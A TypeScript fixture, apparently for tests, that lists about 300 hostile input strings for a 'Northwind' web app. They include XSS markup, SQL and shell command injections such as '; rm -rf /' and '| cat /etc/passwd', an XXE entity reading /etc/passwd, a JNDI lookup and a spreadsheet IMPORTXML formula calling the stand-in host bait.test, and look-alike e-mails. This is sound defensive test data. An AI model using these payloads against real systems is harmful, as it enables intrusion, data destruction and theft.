/** A text that no field should carry on as it is. */
export interface HostileString {
  kind: string;
  text: string;
}

const DANA = 'dana.whitfield@northwind.test';
const MEGABYTE = 1_048_576;
const point = (code: number) => String.fromCodePoint(code);

/** Each of the list alone, within a name and around it. */
function placed(list: readonly string[]): string[] {
  return list.flatMap((bad) => [bad, `North${bad}wind`, `${bad}Northwind${bad}`]);
}

/** Told to the eye and not to the reader: directions, widths of nothing, marks of formats. */
const INVISIBLE = [
  0x00ad, 0x034f, 0x061c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b,
  0x202c, 0x202d, 0x202e, 0x2028, 0x2029, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f,
  0xfeff, 0xfff9, 0xfffb, 0xe0001, 0xe0041,
].map(point);
const CONTROLS = [0, 1, 7, 8, 9, 10, 11, 12, 13, 27, 31, 127, 133, 155, 159].map(point);
const HALVES = ['\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uDE00\uD83D', '\uFFFE', '\uFFFF'];

const MARKUP = [
  '<script>globalThis.ran=1</script>',
  '<img src=x onerror=globalThis.ran=1>',
  '<svg onload=globalThis.ran=1>',
  '<svg><script>globalThis.ran=1</script></svg>',
  '<iframe srcdoc="<script>top.ran=1</script>">',
  '<math><mtext><table><mglyph><style><img src onerror=ran=1>',
  '"><script>globalThis.ran=1</script>',
  `'><img src=x onerror=globalThis.ran=1>`,
  '</title><script>globalThis.ran=1</script>',
  '</textarea><script>globalThis.ran=1</script>',
  '<!--<img src="--><img src=x onerror=ran=1>',
  '<a href="javascript:globalThis.ran=1">Northwind</a>',
  '<template shadowrootmode="open"><b>Northwind</b></template>',
  '<base href="https://bait.test/">',
  '<meta http-equiv="refresh" content="0;url=https://bait.test/">',
  '<style>*{display:none}</style>',
  '&lt;script&gt;ran=1&lt;/script&gt;',
  '&#x3C;script&#x3E;',
  '<![CDATA[ <script>ran=1</script> ]]>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
];
const ADDRESSES = [
  'javascript:globalThis.ran=1',
  'JaVaScRiPt:globalThis.ran=1',
  'java\nscript:globalThis.ran=1',
  '\u0001javascript:globalThis.ran=1',
  'data:text/html,<script>ran=1</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://bait.test/1',
  'chrome-extension://abc/panel.html',
  'https://northwind.test@bait.test/',
  'https://bait.test/?northwind.test',
  'https://bait.test/#northwind.test',
  '//bait.test',
  'https://xn--nrthwind-c3a.test',
  'http://[::1]:80/',
  'https://northwind.test:99999/',
  '/agent/organizations/999',
  '../../../../etc/passwd',
];
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("https://bait.test","Northwind")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("https://bait.test/",A1),"//a")',
  '＝1+1',
];
const INJECTIONS = [
  "Robert'); DROP TABLE accounts;--",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  '$where: "1==1"',
  '{"$gt": ""}',
  '{{constructor.constructor("globalThis.ran=1")()}}',
  `$${'{globalThis.ran=1}'}`,
  '#{7*7}',
  '<%= 7*7 %>',
  '{% include "x" %}',
  '`id`',
  '$(reboot)',
  '| cat /etc/passwd',
  '; rm -rf /',
  '%00',
  '%0d%0aSet-Cookie: a=b',
  '\\u003cscript\\u003e',
  `$${'{jndi:ldap://bait.test/a}'}`,
  '(a+)+$',
  '%s%s%s%n',
  ']]>',
  '*/ ran=1 /*',
];
const WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'then',
  'undefined',
  'null',
  'NaN',
  '0',
  '-0',
  '1e1000',
  '[object Object]',
  '{"__proto__":{"polluted":true}}',
  'CON',
  'CON.csv',
  '__defineGetter__',
  'isPrototypeOf',
  'arguments',
  'globalThis',
  'document.cookie',
  'eval(name)',
  '[native code]',
  'Symbol(bellwether.page)',
  '.',
  '..',
];
const EMAILS = [
  'dana.whitfield@nоrthwind.test',
  'dаna.whitfield@northwind.test',
  'dana.whitfield@northwind.test.bait.test',
  'dana.whitfield@northwind.test@bait.test',
  `${DANA}<sales@bait.test>`,
  `<${DANA}> <sales@bait.test>`,
  `"${DANA}" sales@bait.test`,
  `Write to ${DANA} please`,
  `${DANA}, sales@bait.test`,
  `mailto:${DANA}?bcc=sales@bait.test`,
  'dana.whitfield＠northwind.test',
  'dana.whitfield@northwind。test',
  'dana\u202Ewhitfield@northwind.test',
  `${'d'.repeat(300)}@northwind.test`,
  `dana@${'n'.repeat(300)}.test`,
  `dana@${'n.'.repeat(200)}test`,
  '@northwind.test',
  'dana@',
  'dana@northwind',
  'dana@.test',
  '"<script>"@northwind.test',
  'dana@[127.0.0.1]',
];
const LONG = [
  'A'.repeat(MEGABYTE),
  'Northwind '.repeat(MEGABYTE / 10),
  ' '.repeat(MEGABYTE),
  `${' \n\t'.repeat(10_000)}x`,
  '<b>'.repeat(100_000),
  '@'.repeat(100_000),
  `${'a@'.repeat(50_000)}b.test`,
  '😀'.repeat(100_000),
  '\u202E'.repeat(100_000),
  `${'a'.repeat(499)}😀`,
  `${'a'.repeat(1999)}😀`,
  `N${'\u0301'.repeat(5000)}`,
  `${'('.repeat(50_000)}`,
  '"'.repeat(100_000),
];
const SCRIPTS = [
  'שלום Northwind',
  'شركة نورث ويند',
  'نام\u200Cها',
  '\u05E9\u05DC\u05D5\u05DD=1+1',
  'Ｎｏｒｔｈｗｉｎｄ　Ｔｒａｄｅｒｓ',
  'Nоrthwind Traders',
  'ℕ𝕠𝕣𝕥𝕙𝕨𝕚𝕟𝕕',
  'Z̷̢͉͍a̶͎l̴g̵o̴',
  'İstanbul ıI',
  'ǅ ﬀ ﬁ ß ẞ',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '﷽',
  'Northwind\u00A0Traders',
  '\u2003Northwind\u3000',
];

const FAMILIES: Record<string, readonly string[]> = {
  markup: MARKUP,
  addresses: ADDRESSES,
  formulas: FORMULAS,
  injections: INJECTIONS,
  'names of prototypes': WORDS,
  'e-mail look-alikes': EMAILS,
  'long ones': LONG,
  scripts: SCRIPTS,
  'invisible marks': placed(INVISIBLE),
  controls: placed(CONTROLS),
  'half characters': placed(HALVES),
};

/** What a stranger may write wherever a page shows something: 300 texts. */
export const HOSTILE_STRINGS: HostileString[] = Object.entries(FAMILIES).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
);
